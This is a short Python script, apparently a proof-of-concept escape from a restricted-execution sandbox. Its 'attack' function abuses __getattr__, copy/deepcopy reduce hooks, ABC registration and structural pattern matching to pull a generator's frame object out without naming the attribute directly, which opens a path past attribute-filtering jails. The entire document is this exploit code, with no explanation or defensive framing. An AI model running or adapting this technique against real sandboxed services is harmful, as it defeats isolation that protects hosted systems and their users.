import copy
from abc import ABC
class U(ABC): pass
caught = []
class A:
    def __getattr__(self, name):
        if name == "__setstate__":
            return caught.append
        raise AttributeError(name)
def g(): yield 1
def attack():
    a = A()
    a.x = 1
    copy.copy(a)
    caught[0]["__reduce_ex__"] = lambda p: (lambda: U, (), (None, {"__match_args__": ("gi_frame",)}))
    copy.deepcopy(a)
    gen = g()
    U.register(type(gen))
    match gen:
        case U(frame):
            return {"proof": str(frame)}
